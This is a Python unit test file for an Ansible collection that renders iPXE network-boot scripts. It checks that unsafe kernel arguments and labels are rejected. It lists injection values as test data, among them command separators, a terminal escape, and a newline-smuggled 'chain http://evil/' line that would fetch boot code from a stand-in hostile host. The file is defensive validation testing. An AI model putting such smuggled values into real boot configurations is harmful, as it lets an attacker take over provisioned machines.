# Copyright (c) 2026, The netinstall.pxe authors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

from __future__ import annotations

import pytest
from ansible_collections.netinstall.pxe.plugins.module_utils._errors import PxeError
from ansible_collections.netinstall.pxe.tests.unit.plugins.module_utils._boot.ipxe.sites import (
    PROFILE,
    render,
)


@pytest.mark.parametrize(
    ("where", "value"),
    [
        ("kernel_arguments", "two words"),
        ("kernel_arguments", ""),
        ("kernel_arguments", "#comment"),
        ("kernel_arguments", "||"),
        ("kernel_arguments", "&&"),
        ("kernel_arguments", ";"),
        ("kernel_arguments", "a\nkernel"),
        ("kernel_arguments", "a\\"),
        ("kernel_arguments", "a||b"),
        ("kernel_arguments", "${unclosed"),
        ("kernel_arguments", "{{ template }}".replace(" ", "")),
        ("label", "a\nchain http://evil/"),
        ("label", "${netX/mac}"),
        ("label", "a\x1b[2J"),
    ],
)
def test_values_that_would_change_the_script(where: str, value: str) -> None:
    changed = {**PROFILE, where: [value] if where == "kernel_arguments" else value}
    with pytest.raises(PxeError, match="debian13"):
        render(profiles={"debian13": changed})


def test_settings_are_allowed_in_kernel_arguments() -> None:
    changed = {**PROFILE, "kernel_arguments": ["BOOTIF=01-${netX/mac:hexhyp}", "ds=nocloud-net;s=http://x/"]}
    script = render(profiles={"debian13": changed})["profiles/debian13.ipxe"]
    assert " BOOTIF=01-${netX/mac:hexhyp} ds=nocloud-net;s=http://x/ " in script
